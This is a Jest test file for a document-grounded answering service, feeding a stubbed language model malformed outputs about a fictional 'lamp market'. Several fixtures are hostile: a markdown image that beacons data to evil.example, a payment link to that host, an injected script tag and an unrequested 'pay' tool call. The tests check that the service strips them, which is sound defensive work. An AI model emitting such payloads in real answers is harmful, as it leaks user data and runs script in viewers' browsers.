import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Answer } from '@arbiter/contracts';
import { chatChunks, type HttpStandIn, type StandInAnswer, startHttpStandIn } from '@arbiter/testing';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { ask, ingest } from './http-calls.js';
import { Processes } from './processes.js';
import { type RunningStandalone, startStandaloneProcess } from './servers.js';
import { TemporaryFolders } from './temporary-folders.js';

const READY_MS = 120_000;
const QUESTION = 'What does a phial cost?';
const DOCUMENT = `# Prices at the lamp market

A phial costs 9 wicks. A lantern costs 5 wicks, and a wick is a copper coin. Prices are posted at noon.

## Hours

The market opens at dawn and closes at dusk. Nobody may enter it with a burning torch.
`;

const processes = new Processes();
const folders = new TemporaryFolders();
let vendor: HttpStandIn;
let server: RunningStandalone;
/** What the model does when it is asked for an answer. */
let writes: (answer: StandInAnswer, prompt: string) => Promise<void>;

const SSE = 'text/event-stream';

function said(text: string, finishReason = 'stop'): typeof writes {
  return (answer) => answer.stream(SSE, chatChunks(text.match(/\S*\s*/g) ?? [text], finishReason), 'end');
}

beforeAll(async () => {
  vendor = await startHttpStandIn(({ target, body }, answer) => {
    if (target.endsWith('/models')) return answer.json(200, { object: 'list', data: [{ id: 'odd', object: 'model' }] });
    const { messages } = JSON.parse(body) as { messages: { content: string }[] };
    return writes(answer, messages.map(({ content }) => content).join('\n'));
  });
  const [dataDir, documents] = await Promise.all([folders.create(), folders.create()]);
  await writeFile(join(documents, 'prices.md'), DOCUMENT);
  server = await startStandaloneProcess(processes, {
    dataDir,
    env: {
      SYNTHESIS_MODEL: 'openai/odd',
      OPENAI_BASE_URL: `${vendor.url}/v1`,
      OPENAI_API_KEY: 'any-key',
      INGESTION_ROOTS: documents,
    },
  });
  await ingest(server.url, 'market', [{ kind: 'path', path: documents }]);
}, READY_MS);
afterAll(async () => {
  await processes.stopAll();
  await vendor.close();
  await folders.removeAll();
});

async function answerTo(model: typeof writes): Promise<Answer> {
  writes = model;
  return ask(server.url, { query: QUESTION });
}

/** Whatever a model does: what is shown is right, and has a citation. */
function expectSound({ status, answer, citations }: Answer): void {
  if (status !== 'answered') return;
  expect(citations.length).toBeGreaterThan(0);
  expect(answer).toMatch(/9 wicks/);
  expect(answer).not.toMatch(/<|```|https?:/);
}

describe('what a language model writes that is no answer', () => {
  it.each<[string, typeof writes]>([
    ['nothing', said('')],
    ['white space', said(' \n\n ')],
    ['only markers', said('[1][2]')],
    ['JSON', said('{"answer": "A phial costs 9 wicks", "sources": [1]}')],
    ['an image that a viewer would load', said('![9 wicks](https://evil.example/x.png?d=9)')],
    ['a link that no source holds', said('A phial costs [9 wicks](https://evil.example/pay) [1].')],
    [
      'the frame of the prompt',
      (answer, prompt) => said(/<source-\S+ number="1">/.exec(prompt)?.[0] ?? '')(answer, prompt),
    ],
    ['a tool call that nobody asked for', (answer) => answer.stream(SSE, TOOL_CALL, 'end')],
    ['a stream that ends in mid-word', (answer) => answer.stream(SSE, chatChunks(['A phial costs 9 wi'], null), 'cut')],
  ])('gives way to the sources’ own sentences, and the answer says so: %s', async (_, model) => {
    const answer = await answerTo(model);
    expectSound(answer);
    expect(answer).toMatchObject({ status: 'answered', synthesis: 'extractive' });
    expect(answer.degraded).toContain('language-model');
  });

  it.each([
    ['the word that it was told', 'NOT_IN_SOURCES'],
    ['its own words', 'I’m sorry, but the sources do not say what a phial costs.'],
  ])('declines in %s', async (_, refusal) => {
    expect(await answerTo(said(refusal))).toMatchObject({ status: 'declined', degraded: [] });
  });
});

const TOOL_CALL = `data: ${JSON.stringify({
  id: 'chatcmpl-1',
  object: 'chat.completion.chunk',
  created: 1,
  model: 'odd',
  choices: [
    {
      index: 0,
      delta: {
        role: 'assistant',
        tool_calls: [{ index: 0, id: 'call-1', type: 'function', function: { name: 'pay', arguments: '{}' } }],
      },
      finish_reason: 'tool_calls',
    },
  ],
})}\n\ndata: [DONE]\n\n`;

describe('what a language model writes oddly', () => {
  it.each([
    ['markers of sources that do not exist', 'A phial costs 9 wicks [7].'],
    ['no marker', 'A phial costs 9 wicks.'],
    ['a frame of code', '```\nA phial costs 9 wicks [1].\n```'],
    ['a regret before the answer', 'I’m sorry to say that a phial costs 9 wicks [1].'],
    ['its thoughts', '<think>The first source says so.</think>A phial costs 9 wicks [1].'],
  ])('is shown, with a citation, without the oddity: %s', async (_, text) => {
    const answer = await answerTo(said(text));
    expectSound(answer);
    expect(answer).toMatchObject({ status: 'answered', synthesis: 'generated' });
    expect(answer.citations[0]?.quote).toContain('9 wicks');
  });

  it.each([
    ['another language', 'Eine Phiole kostet 9 Dochte [1].'],
    ['a table', '| Thing | Price |\n|---|---|\n| phial | 9 wicks [1] |'],
    ['HTML', '<p>A phial costs <b>9 wicks</b> [1].</p><script>alert(1)</script>'],
    ['two answers', 'A phial costs 9 wicks [1].\n\nAnswer: A phial costs 5 wicks [1].'],
  ])('is never shown unproven or unsafe: %s', async (_, text) => {
    const answer = await answerTo(said(text));
    expect(answer.answer).not.toMatch(/costs 5 wicks|<script|<b>/);
    if (answer.status === 'answered') expect(answer.citations.length).toBeGreaterThan(0);
  });

  it('is ended where it does not end, and the answer says so', async () => {
    const answer = await answerTo(said('A phial costs 9 wicks [1]. '.repeat(500)));
    expect(answer.answer.split('9 wicks').length).toBeLessThan(70);
    expect(answer.degraded).toContain('language-model');
  });
});
